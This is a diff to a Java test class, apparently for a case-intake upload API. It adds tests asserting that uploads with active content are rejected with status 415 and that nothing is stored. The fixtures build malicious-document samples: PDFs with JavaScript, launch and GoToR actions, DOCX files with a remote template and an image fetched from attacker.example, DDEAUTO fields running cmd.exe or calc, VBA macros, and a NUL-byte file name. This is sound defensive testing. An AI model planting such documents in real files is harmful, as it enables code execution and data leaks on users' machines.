@@ -144,6 +144,9 @@ class HostileInputCatalogueTests {
                     .file(new MockMultipartFile("metadata", "", "application/json",
                             metadata.getBytes(StandardCharsets.UTF_8))).with(httpBasic("intake", "demo"))));
         }
+        for (HostileUpload upload : hostileUploads()) {
+            all.add(new Attempt("upload", upload.label(), () -> upload(caseRef, upload.fileName(), upload.bytes())));
+        }
         all.add(new Attempt("upload", "metadata with a right-to-left override in the name", () -> multipart(
                 "/api/v1/cases/" + caseRef + "/documents").file(new MockMultipartFile("file", "passport.png",
                         "image/png", png)).file(new MockMultipartFile("metadata", "", "application/json",
@@ -230,6 +233,93 @@ class HostileInputCatalogueTests {
                     .with(httpBasic("admin", "demo"))));
         }
         return all;
+    }
+
+    /** An upload carrying active content, and the words its refusal must contain. */
+    record HostileUpload(String label, String fileName, byte[] bytes, String reason) {
+    }
+
+    /** One upload per family of active content that issue 16 found accepted. */
+    static List<HostileUpload> hostileUploads() {
+        String dde = "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/></w:p>";
+        return List.of(
+                new HostileUpload("PDF with an XFA form carrying a script", "statement.pdf", TestFiles.pdfWithXfa(),
+                        "XFA form"),
+                new HostileUpload("PDF whose page opens a remote file over UNC (GoToR)", "statement.pdf",
+                        TestFiles.pdfWithRemoteGoTo(), "opens another file (GoToR)"),
+                new HostileUpload("PDF whose link submits a form", "statement.pdf", TestFiles.pdfWithSubmitForm(),
+                        "submits a form"),
+                new HostileUpload("PDF with JavaScript in a compressed object stream", "statement.pdf",
+                        TestFiles.compressedPdfWithJavaScript(), "runs JavaScript (document OpenAction)"),
+                new HostileUpload("PDF with a JavaScript name tree", "statement.pdf",
+                        TestFiles.pdfWithJavaScriptNameTree(), "JavaScript"),
+                new HostileUpload("PDF with a launching bookmark", "statement.pdf", TestFiles.pdfWithLaunchingBookmark(),
+                        "launches a program"),
+                new HostileUpload("PDF with an embedded file", "statement.pdf", TestFiles.pdfWithEmbeddedFile(),
+                        "embedded file"),
+                new HostileUpload("DOCX with a remote template", "letter.docx", TestFiles.docx(Map.of(
+                        "word/settings.xml", "<w:settings xmlns:w=\"" + W + "\"/>", "word/_rels/settings.xml.rels",
+                        rels("attachedTemplate", "\\\\attacker.example\\t.dotm", "External"))),
+                        "from outside the document"),
+                new HostileUpload("DOCX with an external image", "letter.docx", TestFiles.docx(Map.of(
+                        "word/_rels/document.xml.rels", rels("image", "http://attacker.example/a.png", "external "))),
+                        "from outside the document"),
+                new HostileUpload("DOCX with a DDEAUTO field", "letter.docx", TestFiles.docx(Map.of("word/document.xml",
+                        TestFiles.body(dde))), "runs a DDE command"),
+                new HostileUpload("DOCX with a DDEAUTO field split across runs", "letter.docx", TestFiles.docx(Map.of(
+                        "word/document.xml", TestFiles.body(TestFiles.splitField("DDE", "AUTO calc")))),
+                        "runs a DDE command"),
+                new HostileUpload("DOCX with a renamed VBA part declared in UTF-16 content types", "letter.docx",
+                        TestFiles.docx(Map.of("word/fonts.dat", TestFiles.doc(true), "[Content_Types].xml",
+                                TestFiles.utf16(TestFiles.CONTENT_TYPES.replace("</Types>", "<Override PartName=\""
+                                        + "/word/fonts.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
+                                        + "</Types>")))), "macros"),
+                new HostileUpload("DOC with a macro storage", "letter.doc", TestFiles.doc(true), "contains macros"),
+                new HostileUpload("DOC with embedded objects", "letter.doc", TestFiles.ole2(true, "ObjectPool", "_1",
+                        "\u0001Ole10Native"), "embedded objects"),
+                new HostileUpload("any OLE2 file named .doc", "letter.doc", TestFiles.ole2(false),
+                        "not a Word document"));
+    }
+
+    static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
+
+    static String rels(String type, String target, String mode) {
+        return TestFiles.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
+                + "2006/relationships/" + type + "\" Target=\"" + target + "\" TargetMode=\"" + mode + "\"/>");
+    }
+
+    static MockHttpServletRequestBuilder upload(String caseRef, String fileName, byte[] bytes) {
+        String metadata = "{\"kind\":\"PROOF_OF_ADDRESS\",\"nameOnDocument\":\"Jane Seller\"}";
+        return multipart("/api/v1/cases/" + caseRef + "/documents")
+                .file(new MockMultipartFile("file", fileName, "application/octet-stream", bytes))
+                .file(new MockMultipartFile("metadata", "", "application/json", metadata.getBytes(StandardCharsets.UTF_8)))
+                .with(httpBasic("intake", "demo"));
+    }
+
+    @Test
+    void everyUploadWithActiveContentIs415NamingTheReasonAndStoresNothing() throws Exception {
+        CaseFile target = RunAs.user("intake", () -> intake.open(JSON.convertValue(CaseRequests.valid(),
+                CaseIntakeRequest.class)), Role.INTAKE);
+        Map<String, Long> before = counts();
+        for (HostileUpload upload : hostileUploads()) {
+            var response = mvc.perform(upload(target.getReference(), upload.fileName(), upload.bytes())).andReturn()
+                    .getResponse();
+            assertThat(response.getStatus()).as(upload.label() + ": " + response.getContentAsString()).isEqualTo(415);
+            assertThat(response.getContentAsString(StandardCharsets.UTF_8)).as(upload.label()).contains(upload.reason());
+        }
+        assertThat(counts()).as("nothing stored").isEqualTo(before);
+    }
+
+    @Test
+    void aNulInAFileNameIsA400NamingTheField() throws Exception {
+        CaseFile target = RunAs.user("intake", () -> intake.open(JSON.convertValue(CaseRequests.valid(),
+                CaseIntakeRequest.class)), Role.INTAKE);
+        Map<String, Long> before = counts();
+        var response = mvc.perform(upload(target.getReference(), "passport.png\u0000.exe", TestFiles.png(300, 200)))
+                .andReturn().getResponse();
+        assertThat(response.getStatus()).isEqualTo(400);
+        assertThat(response.getContentAsString()).contains("\"field\":\"file\"").contains("NUL");
+        assertThat(counts()).isEqualTo(before);
     }
 
     @Test
